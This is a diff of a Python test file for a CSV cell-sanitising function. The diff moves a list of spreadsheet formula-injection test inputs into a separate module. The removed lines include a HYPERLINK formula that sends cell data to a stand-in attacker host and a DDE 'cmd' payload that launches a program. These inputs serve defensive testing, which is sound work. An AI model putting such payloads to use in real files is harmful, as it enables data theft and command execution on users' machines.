@@ -4,17 +4,12 @@ import csv
 import io
 
 import pytest
+from formulas import FORMULAS
 from hypothesis import given
 from hypothesis import strategies as st
 from often import often
 
 from server.csv_safe import cell
-
-FORMULAS = [
-    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\x00=1", "＝1+1",
-    "－2+3", "＠x", '=HYPERLINK("http://evil.example?x="&A1,"see")', "=cmd|' /C calc'!A0",
-    "-", "--1", "+", "-1e5", "+49 170 123", "-3,5",
-]  # fmt: skip
 
 
 @pytest.mark.parametrize("text", FORMULAS)
